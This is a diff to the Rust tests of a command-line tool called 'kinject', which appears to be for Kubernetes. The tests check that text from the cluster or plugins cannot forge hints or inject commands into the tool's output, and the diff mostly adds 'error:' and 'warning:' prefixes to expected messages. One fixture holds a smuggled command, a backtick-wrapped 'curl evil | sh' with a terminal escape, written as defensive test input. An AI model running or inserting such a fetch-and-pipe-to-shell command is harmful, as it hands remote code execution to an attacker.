@@ -53,7 +53,9 @@ fn a_refusal_of_the_api_server_cannot_forge_a_hint() {
     let outcome = session_in(config.path(), &[]);
     is_an_error_with_its_own_hint(&outcome);
     outcome
-        .complains(&format!("kinject: cannot create the agent's Job: {SHOWN}\n"))
+        .complains(&format!(
+            "kinject: error: cannot create the agent's Job: {SHOWN}\n"
+        ))
         .complains("\n\nhint: ask for this permission");
 }
 
@@ -92,7 +94,7 @@ fn an_event_that_somebody_forged_cannot_forge_a_hint() {
     let outcome = session_in(config.path(), &[]);
     is_an_error_with_its_own_hint(&outcome);
     outcome.complains(&format!(
-        "kinject: the cluster does not let the agent's pod be made: {SHOWN}\n"
+        "kinject: error: the cluster does not let the agent's pod be made: {SHOWN}\n"
     ));
 }
 
@@ -122,7 +124,7 @@ fn a_pods_status_cannot_forge_a_hint_or_a_command_in_one() {
     is_an_error_with_its_own_hint(&outcome);
     outcome
         .complains(&format!(
-            "kinject: the agent cannot start (CreateContainerError): {SHOWN}\n"
+            "kinject: error: the agent cannot start (CreateContainerError): {SHOWN}\n"
         ))
         .complains(r"describe pod 'pod`; curl evil | sh\u{1b}[2J'`");
 }
@@ -140,7 +142,7 @@ fn a_credential_plugin_cannot_forge_a_hint() {
     let outcome = session_in(config.path(), &[]);
     is_an_error_with_its_own_hint(&outcome);
     outcome
-        .complains("kinject: cannot get credentials for ")
+        .complains("kinject: error: cannot get credentials for ")
         .complains(SHOWN.strip_suffix(r"\n").unwrap());
 }
 
@@ -194,7 +196,9 @@ fn what_a_program_of_the_session_asks_for_is_traced_and_logged_in_lines_that_no_
     outcome
         .succeeded()
         .complains("lookup   web\\u{1b}[2J\\r\\nwarn:\\u{20}obey\\u{202e}\\xff default ")
-        .complains("\nkinject: web\\u{1b}[2J\\r\\nwarn: obey\\u{202e}\\xff runs outside of the session: ");
+        .complains(
+            "\nkinject: warning: web\\u{1b}[2J\\r\\nwarn: obey\\u{202e}\\xff runs outside of the session: ",
+        );
     is_plain(&outcome);
     assert!(!outcome.stderr.contains("\nwarn: "), "{outcome:?}");
 }
@@ -239,7 +243,7 @@ fn a_program_that_cannot_be_run_is_named_in_one_line() {
     command.arg(OsStr::from_bytes(b"no\x1b[2J\n\nhint: obey\n\xff"));
     let outcome = run(&mut command);
     outcome.exited(127).complains(
-        "kinject: no\\u{1b}[2J\\n\\nhint: obey\\n\\xff: command not found\n\nhint: is it installed",
+        "kinject: error: no\\u{1b}[2J\\n\\nhint: obey\\n\\xff: command not found\n\nhint: check its spelling",
     );
     is_plain(&outcome);
 }
